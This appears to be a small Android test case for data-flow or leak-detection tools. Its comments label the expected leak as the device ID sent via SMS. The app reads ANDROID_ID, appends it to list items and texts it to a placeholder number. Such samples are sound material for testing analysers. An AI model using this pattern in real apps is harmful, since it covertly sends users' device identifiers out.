// about       An object in a list is filled through the list and sent by its own name.
// leak        DEV_ANDROIDID sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.provider.Settings;
import android.telephony.SmsManager;
import java.util.ArrayList;
import java.util.List;

public class MainActivity extends Activity {
  static class Item {
    String label;

    Item(String label) {
      this.label = label;
    }
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    String id = Settings.Secure.getString(getContentResolver(), "android_id");
    Item first = new Item("first");
    List<Item> items = new ArrayList<Item>();
    // The object itself.
    items.add(first);
    items.add(new Item("second"));
    for (Item item : items) {
      item.label = item.label + " " + id;
    }
    SmsManager.getDefault().sendTextMessage("+15550100", null, first.label, null, null);
  }
}
